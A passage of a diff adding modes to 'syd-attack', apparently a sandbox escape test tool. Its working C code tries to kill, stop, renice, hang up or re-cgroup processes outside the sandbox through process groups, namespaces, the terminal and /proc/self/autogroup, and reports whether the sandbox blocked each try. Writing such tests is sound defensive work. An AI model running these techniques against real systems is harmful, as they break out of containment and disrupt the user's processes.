+  struct hold h;
+  memset(&h, 0, sizeof h);
+  h.call = grace_call;
+  h.arg = &g;
+  int e = hold_start(&h);
+  if (e) return blocked("hold setup", e);
+  int rounds = 0, held = 0, oks = 0, hit = 0;
+  long t0 = now_ms();
+  for (; held < want && !hit && now_ms() - t0 < HOLD_BUDGET_MS; ++rounds) {
+    int k = hold_round(&h, grace_act, &g);
+    if (k < 0) return blocked("the held call never returned", ETIMEDOUT);
+    held += k;
+    oks += h.ret == 0;
+    if (setpgid(0, 0) != 0) return blocked("setpgid(0, 0)", errno);
+    if (parent_prio(g.io, p) == changed) hit = rounds + 1;
+  }
+  info("group-race: %d rounds in %ld ms, %d held, %d calls returned 0", rounds, now_ms() - t0, held, oks);
+  printf("rounds %d held %d\n", rounds, held);
+  hold_stop(&h);
+  if (hit) return escaped("group-race: %s of the parent reached through its group (round %d)", what, hit);
+  return blocked("group-race (the parent untouched)", EPERM);
+}
+
+/* H: from a pid namespace of its own, group 0 is still the caller's
+ * process group, which it shares with the parent: kill(0, SIGALRM) (the
+ * caller ignores SIGALRM) or setpriority(PRIO_PGRP, 0, 19). The parent must
+ * survive, its nice unchanged. */
+static int pidns_group(const char* what) {
+  const pid_t p = getppid();
+  const int kill_mode = strcmp(what, "kill") == 0;
+  errno = 0;
+  const int before = getpriority(PRIO_PROCESS, p);
+  printf("parent %d nice %d\n", p, before);
+  if (!kill_mode && before == 19) {
+    printf("SETUP the parent's nice is already 19\n");
+    return 2;
+  }
+  if (kill_mode) signal(SIGALRM, SIG_IGN);
+  int e = privileged() ? (unshare(CLONE_NEWPID) == 0 ? 0 : errno) : enter_userns(CLONE_NEWPID, 0);
+  if (e) {
+    printf("SETUP unshare(CLONE_NEWPID): %s\n", en(e));
+    return 2;
+  }
+  fflush(stdout);
+  pid_t c = fork();
+  if (c == 0) {
+    long r = kill_mode ? kill(0, SIGALRM) : setpriority(PRIO_PGRP, 0, 19);
+    int err = errno;
+    printf("in a new pid namespace (pid %d): %s(group 0): %s\n", getpid(), kill_mode ? "kill" : "setpriority",
+           r == 0 ? "OK" : en(err));
+    fflush(stdout);
+    _exit(r == 0 ? 0 : err);
+  }
+  int st;
+  while (waitpid(c, &st, 0) < 0 && errno == EINTR) {
+  }
+  const int r = WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
+  if (kill_mode) {
+    if (parent_died(p, 500)) return escaped("pidns-group: kill(0) from a pid namespace of its own killed the parent");
+    return blocked("kill(0) from a new pid namespace (the parent lives)", r ? r : EPERM);
+  }
+  if (getpriority(PRIO_PROCESS, p) == 19)
+    return escaped("pidns-group: setpriority(group 0) from a pid namespace of its own reniced the parent");
+  return blocked("setpriority(PRIO_PGRP, 0) from a new pid namespace (the parent untouched)", r ? r : EPERM);
+}
+
+/* I: signals to processes outside (VICTIM1, VICTIM2: process group leaders
+ * running as root) after dropping to uid 65534, first as such, then from a
+ * user namespace of its own, whose capabilities count for nothing outside
+ * it: pidfd_send_signal to VICTIM1, kill(-VICTIM2), SIGTERM each. With
+ * --no-drop (as root) they must work: the control that the victims can die
+ * by these calls. */
+static int victim_dead(int pidfd, int ms) {
+  struct pollfd p = {pidfd, POLLIN, 0};
+  return poll(&p, 1, ms) > 0;
+}
+
+static int userns_signal(pid_t v1, pid_t v2, int drop) {
+  if (drop && privileged()) {
+    int e = drop_to(65534);
+    if (e) return blocked("drop to uid 65534", e);
+  }
+  int fd1 = (int)pidfd_open_(v1), fd2 = (int)pidfd_open_(v2);
+  if (fd1 < 0 || fd2 < 0) return blocked("pidfd_open(victim)", errno);
+  int e = 0;
+  char died[256] = "";
+  for (int ns = 0; ns < 2; ++ns) {
+    if (ns) {
+      if (unshare(CLONE_NEWUSER) != 0) return blocked("unshare(CLONE_NEWUSER)", errno);
+      info("in a user namespace of our own (uid %d outside)", (int)geteuid());
+    }
+    const char* where = ns ? "in a user namespace of its own: " : "";
+    if (!victim_dead(fd1, 0)) {
+      long r = syscall(__NR_pidfd_send_signal, fd1, SIGTERM, NULL, 0);
+      e = r == 0 ? e : errno;
+      printf("%spidfd_send_signal(victim 1, SIGTERM): %s\n", where, r == 0 ? "OK" : en(errno));
+      if (r == 0 && victim_dead(fd1, 1000))
+        snprintf(died + strlen(died), sizeof died - strlen(died), " %spidfd_send_signal;", where);
+    }
+    if (!victim_dead(fd2, 0)) {
+      long r = kill(-v2, SIGTERM);
+      e = r == 0 ? e : errno;
+      printf("%skill(-victim 2, SIGTERM): %s\n", where, r == 0 ? "OK" : en(errno));
+      if (r == 0 && victim_dead(fd2, 1000))
+        snprintf(died + strlen(died), sizeof died - strlen(died), " %skill(-pgrp);", where);
+    }
+  }
+  if (died[0]) return escaped("userns-signal: victims killed by%s", died);
+  if (victim_dead(fd1, 0) || victim_dead(fd2, 0)) return escaped("userns-signal: a victim died");
+  return blocked("signals from a user namespace of its own", e ? e : EPERM);
+}
+
+/* J: hanging up the terminal, which sends SIGHUP to its session leader
+ * (the user's shell, outside the sandbox). */
+#ifndef TIOCVHANGUP
+#define TIOCVHANGUP 0x5437
+#endif
+static int hangup(int by_ioctl) {
+  signal(SIGHUP, SIG_IGN);
+  long r;
+  if (by_ioctl) {
+    int fd = tty_fd();
+    if (fd < 0) return blocked("open tty", errno);
+    r = ioctl(fd, TIOCVHANGUP);
+  } else {
+    r = vhangup();
+  }
+  if (r != 0) return blocked(by_ioctl ? "ioctl(TIOCVHANGUP)" : "vhangup", errno);
+  return escaped("%s: the terminal was hung up", by_ioctl ? "tiocvhangup" : "vhangup");
+}
+
+/* J: job control. The caller's process group is the parent's; it puts a
+ * child of its own in the terminal's foreground, then reads from the
+ * terminal (ttin) or writes to it with TOSTOP set (ttou): the kernel stops
+ * the caller's whole group, the parent included, unless a member ignores
+ * the signal. The child looks at the parent after 300 ms (its state in
+ * /proc where it can see it, and whether a call the parent must answer
+ * comes back), gives the terminal back and continues the caller. */
+static char proc_state(pid_t pid) {
+  char path[64];
+  snprintf(path, sizeof path, "/proc/%d/stat", pid);
+  int fd = open(path, O_RDONLY | O_CLOEXEC);
+  if (fd < 0) return '?';
+  char c = task_state(fd);
+  close(fd);
+  return c;
+}
+
+static atomic_int probe_back;
+static void* probe_thread(void* arg) {
+  pid_t a = (pid_t)(intptr_t)arg;
+  errno = 0;
+  int n = getpriority(PRIO_PROCESS, a);
+  (void)setpriority(PRIO_PROCESS, a, n); /* no change; a call the supervisor checks */
+  atomic_store(&probe_back, 1);
+  return NULL;
+}
+
+static int tty_stop(const char* how) {
+  const int ttou = strcmp(how, "ttou") == 0;
+  if (!isatty(0)) return blocked("stdin is no terminal", ENOTTY);
+  const pid_t p = getppid(), me = getpid(), g = getpgrp();
+  struct termios saved, t;
+  if (ttou) {
+    if (tcgetattr(0, &saved) != 0) return blocked("tcgetattr", errno);
+    t = saved;
+    t.c_lflag |= TOSTOP;
+    if (tcsetattr(0, TCSANOW, &t) != 0) return blocked("tcsetattr(TOSTOP)", errno);
+  }
+  int vp[2];
+  if (pipe(vp) != 0) return 100;
+  fflush(stdout);
+  pid_t b = fork();
+  if (b == 0) {
+    setpgid(0, 0);
+    signal(SIGTTOU, SIG_IGN);
+    sleep_ms(300);
+    char st = proc_state(p);
+    pthread_t pt;
+    pthread_create(&pt, NULL, probe_thread, (void*)(intptr_t)me);
+    long end = now_ms() + 300;
+    while (!atomic_load(&probe_back) && now_ms() < end) sleep_ms(5);
+    const int stopped = st == 'T' || !atomic_load(&probe_back);
+    char v = stopped ? 'S' : 'R';
+    (void)tcsetpgrp(0, g);
+    kill(me, SIGCONT);
+    if (write(vp[1], &v, 1) != 1) _exit(1);
+    dprintf(2, "# tty-stop: parent state %c, a checked call %s\n", st,
+            atomic_load(&probe_back) ? "came back" : "did not come back");
+    _exit(0);
+  }
+  close(vp[1]);
+  setpgid(b, b);
+  if (tcsetpgrp(0, b) != 0) return blocked("tcsetpgrp(child)", errno);
+  long r;
+  if (ttou) {
+    r = write(1, "# from the background\n", 22);
+  } else {
+    fcntl(0, F_SETFL, fcntl(0, F_GETFL) | O_NONBLOCK);
+    char c;
+    r = read(0, &c, 1);
+    fcntl(0, F_SETFL, fcntl(0, F_GETFL) & ~O_NONBLOCK);
+  }
+  int e = errno;
+  char v = '?';
+  if (read(vp[0], &v, 1) != 1) v = '?';
+  while (waitpid(b, NULL, 0) < 0 && errno == EINTR) {
+  }
+  if (ttou) (void)tcsetattr(0, TCSANOW, &saved);
+  printf("# %s from the background: %s\n", ttou ? "write" : "read", r >= 0 ? "OK" : en(e));
+  if (v == 'S') return escaped("tty-stop(%s): the parent was stopped", how);
+  if (v != 'R') return blocked("tty-stop: no word from the child", EPROTO);
+  printf("BLOCKED tty-stop(%s): the parent kept running\n", how);
+  return 1;
+}
+
+/* J: launcher. CMD as a job of an interactive session on a fresh pty, the
+ * way a shell with job control runs it: the "shell" leads the session, the
+ * job has a process group of its own in the foreground. A stopped job is
+ * reported ("tty-session: job stopped by signal N") and, a second later,
+ * brought back (fg); then "tty-session: job status N". The terminal's
+ * output is copied to stdout. */
+static int tty_session(char** cmd) {
+  int m = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
+  if (m < 0 || grantpt(m) != 0 || unlockpt(m) != 0) return 100;
+  char name[128];
+  if (ptsname_r(m, name, sizeof name) != 0) return 101;
+  fflush(stdout);
+  pid_t sh = fork();
+  if (sh == 0) {
+    close(m);
+    if (setsid() < 0) _exit(102);
+    int s = open(name, O_RDWR | O_CLOEXEC);
+    if (s < 0 || ioctl(s, TIOCSCTTY, 0) != 0) _exit(103);
+    signal(SIGTTOU, SIG_IGN);
+    pid_t job = fork();
+    if (job == 0) {
+      setpgid(0, 0);
+      (void)tcsetpgrp(s, getpid());
+      signal(SIGTTOU, SIG_DFL);
+      dup2(s, 0);
+      dup2(s, 1);
+      dup2(s, 2);
+      execvp(cmd[0], cmd);
+      _exit(127);
+    }
+    setpgid(job, job);
+    (void)tcsetpgrp(s, job);
+    int st = 0;
+    for (;;) {
+      pid_t w = waitpid(job, &st, WUNTRACED);
+      if (w < 0 && errno == EINTR) continue;
+      if (w < 0) break;
+      if (WIFSTOPPED(st)) {
+        dprintf(1, "tty-session: job stopped by signal %d\n", WSTOPSIG(st));
+        sleep_ms(1000);
+        (void)tcsetpgrp(s, job);
+        kill(-job, SIGCONT);
+        continue;
+      }
+      break;
+    }
+    int code = WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
+    dprintf(1, "tty-session: job status %d\n", code);
+    _exit(code);
+  }
+  int st = 0, done = 0;
+  long drain_until = 0;
+  char buf[4096];
+  for (;;) {
+    if (!done && waitpid(sh, &st, WNOHANG) == sh) done = 1, drain_until = now_ms() + 300;
+    if (done && now_ms() > drain_until) break;
+    struct pollfd pf = {m, POLLIN, 0};
+    if (poll(&pf, 1, 50) <= 0) continue;
+    ssize_t n = read(m, buf, sizeof buf);
+    if (n <= 0) {
+      if (!done) {
+        while (waitpid(sh, &st, 0) < 0 && errno == EINTR) {
+        }
+        done = 1;
+      }
+      break;
+    }
+    if (write(1, buf, (size_t)n) != n) break;
+  }
+  return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
+}
+
+/* K: root inside moves the parent into a cgroup of its own making (where a
+ * freezer or a memory limit would stop or kill it). Moves it back after
+ * EOF on stdin. */
+static int cgroup_path(const char* root, char* out, size_t len) {
+  const char* want = strstr(root, "/freezer") ? ":freezer:" : NULL;
+  FILE* f = fopen("/proc/self/cgroup", "r");
+  if (!f) return -1;
+  char line[512];
+  int found = -1;
+  while (fgets(line, sizeof line, f)) {
+    line[strcspn(line, "\n")] = 0;
+    const char* at = want ? strstr(line, want) : (strncmp(line, "0::", 3) == 0 ? line + 1 : NULL);
+    if (!at) continue;
+    snprintf(out, len, "%s", strchr(at + 1, ':') + 1);
+    if (strcmp(out, "/") == 0) out[0] = 0;
+    found = 0;
+    break;
+  }
+  fclose(f);
+  return found;
+}
+
+static int cgroup_move(void) {
+  const pid_t p = getppid();
+  const char* roots[] = {"/sys/fs/cgroup/freezer", "/sys/fs/cgroup/unified", "/sys/fs/cgroup"};
+  const char* root = NULL;
+  char procs[1024], orig[512], dir[256], num[32];
+  for (size_t i = 0; i < sizeof roots / sizeof roots[0] && !root; ++i) {
+    snprintf(procs, sizeof procs, "%s/cgroup.procs", roots[i]);
+    if (access(procs, F_OK) == 0 && cgroup_path(roots[i], orig, sizeof orig) == 0) root = roots[i];
+  }
+  if (!root) {
+    printf("SETUP no cgroup hierarchy found\n");
+    return 2;
+  }
+  printf("ppid=%d\n# hierarchy %s, the parent in %s/\n", p, root, orig);
+  snprintf(num, sizeof num, "%d", p);
+  snprintf(dir, sizeof dir, "%s/syd-attack-%d", root, getpid());
+  if (mkdir(dir, 0755) != 0) {
+    int e = errno;
+    printf("mkdir %s: %s\n", dir, en(e));
+    snprintf(procs, sizeof procs, "%s%s/cgroup.procs", root, orig);
+    int w = write_file(procs, num) == 0 ? 0 : errno;
+    printf("write %s: %s\n", procs, w ? en(w) : "OK");
+    int m = mount(NULL, root, NULL, MS_REMOUNT | MS_BIND, NULL) == 0 ? 0 : errno;
+    printf("remount %s read-write: %s\n", root, m ? en(m) : "OK");
+    if (!w) return escaped("cgroup-move: %s written", procs);
+    if (!m) return escaped("cgroup-move: %s remounted read-write", root);
+    return blocked("mkdir in the cgroup hierarchy", e);
+  }
+  snprintf(procs, sizeof procs, "%s/cgroup.procs", dir);
+  if (write_file(procs, num) != 0) {
+    int e = errno;
+    rmdir(dir);
+    return blocked("write cgroup.procs", e);
+  }
+  printf("MOVED %s\n", dir);
+  fflush(stdout);
+  wait_stdin_eof();
+  snprintf(procs, sizeof procs, "%s%s/cgroup.procs", root, orig);
+  int back = write_file(procs, num) == 0;
+  rmdir(dir);
+  return escaped("cgroup-move: the parent %d moved into %s (moved back: %s)", p, dir, back ? "yes" : "NO");
+}
+
+/* M: /proc/self/autogroup is the caller's own file, but the autogroup is
+ * its session's: the parent's, and the user's shell's when they share it.
+ * Written through /proc/self, /proc/PID and a /proc/self directory fd. */
+static int autogroup(const char* nice) {
+  char before[128] = "", after[128] = "", p2[64];
+  int e = 0;
+  if (read_all("/proc/self/autogroup", before, sizeof before - 1, &e) <= 0) return blocked("read autogroup", e);
+  before[strcspn(before, "\n")] = 0;
+  printf("before: %s\n", before);
+  snprintf(p2, sizeof p2, "/proc/%d/autogroup", getpid());
+  const char* names[] = {"/proc/self/autogroup", p2, "openat(/proc/self, autogroup)"};
+  int first = 0;
+  for (int i = 0; i < 3; ++i) {
+    int fd;
+    if (i == 2) {
+      int d = open("/proc/self", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+      fd = d >= 0 ? openat(d, "autogroup", O_WRONLY | O_CLOEXEC) : -1;
+      if (d >= 0) {
+        int keep = errno;
+        close(d);
+        errno = keep;
+      }
+    } else {
+      fd = open(names[i], O_WRONLY | O_CLOEXEC);
+    }
+    if (fd < 0) {
+      if (!first) first = errno;
+      printf("%s: open: %s\n", names[i], en(errno));
+      continue;
+    }
+    /* The kernel takes one change per 100 ms on the whole machine (EAGAIN). */
+    ssize_t n;
+    long end = now_ms() + 2000;
+    while ((n = write(fd, nice, strlen(nice))) < 0 && errno == EAGAIN && now_ms() < end) sleep_ms(20);
+    if (n < 0 && !first) first = errno;
+    printf("%s: write: %s\n", names[i], n >= 0 ? "OK" : en(errno));
+    close(fd);
+    if (n >= 0) break;
+  }
+  if (read_all("/proc/self/autogroup", after, sizeof after - 1, &e) > 0) after[strcspn(after, "\n")] = 0;
+  printf("after: %s\n", after);
+  if (strcmp(before, after) != 0) return escaped("autogroup: the session's autogroup is now '%s'", after);
+  return blocked("write /proc/self/autogroup", first ? first : EPERM);
+}
+
 int main(int argc, char** argv) {
   if (argc < 2) {
     fprintf(stderr, "usage: syd-attack MODE ARG...\n");
@@ -1360,6 +2463,22 @@ int main(int argc, char** argv) {
   if (IS("bindmount-write")) return bindmount_write(a, b);
   if (IS("connect-reuse")) return connect_reuse(a, argc > 3 ? atoi(b) : 3);
   if (IS("magic-race")) return magic_race(argc > 2 ? atoi(a) : 200, argc > 3 ? b : NULL);
+  if (IS("own-listener")) return own_listener(a);
+  if (IS("listener-parent") && argc > 2) return listener_parent(argv + 2);
+  if (IS("prlimit-wide")) return prlimit_wide();
+  if (IS("peercred")) return peer_cred(a);
+  if (IS("peercred-dgram")) return peer_cred_dgram(a);
+  if (IS("future-pid") && argc > 3) return future_pid(atoi(a), b, argc > 4 ? argv[4] : NULL);
+  if (IS("group-race")) return group_race(a, argc > 3 ? atoi(b) : 200);
+  if (IS("pidns-group")) return pidns_group(a);
+  if (IS("userns-signal") && argc > 3)
+    return userns_signal(atoi(a), atoi(b), !(argc > 4 && strcmp(argv[4], "--no-drop") == 0));
+  if (IS("vhangup")) return hangup(0);
+  if (IS("tiocvhangup")) return hangup(1);
+  if (IS("tty-stop")) return tty_stop(a);
+  if (IS("tty-session") && argc > 2) return tty_session(argv + 2);
+  if (IS("cgroup-move")) return cgroup_move();
+  if (IS("autogroup")) return autogroup(argc > 2 ? a : "19");
 #undef IS
   fprintf(stderr, "syd-attack: unknown mode %s\n", m);
   return 100;
